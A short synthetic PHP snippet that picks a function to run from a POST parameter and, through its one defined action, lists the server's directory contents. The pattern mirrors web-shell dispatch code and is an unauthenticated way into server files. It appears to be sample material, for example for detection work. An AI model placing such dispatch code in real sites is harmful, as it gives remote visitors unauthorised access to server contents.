<?php
// synthetic: action functions chosen by a POST field
function actionList() { echo implode("\n", scandir('.')); }
if (!empty($_POST['a']) && function_exists('action' . $_POST['a'])) {
    call_user_func('action' . $_POST['a']);
}
